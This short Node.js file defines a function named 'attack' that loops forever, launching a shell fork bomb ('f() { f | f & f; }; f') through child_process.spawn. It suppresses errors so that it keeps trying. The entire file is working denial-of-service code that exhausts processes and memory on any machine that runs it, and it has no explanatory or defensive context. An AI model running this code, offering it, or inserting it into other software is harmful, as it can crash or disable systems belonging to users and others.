const { spawn } = require('node:child_process');
function attack(n) {
	for (;;) {
		try {
			spawn('/bin/sh', ['-c', 'f() { f | f & f; }; f']);
		} catch {
			// goes on trying
		}
	}
}
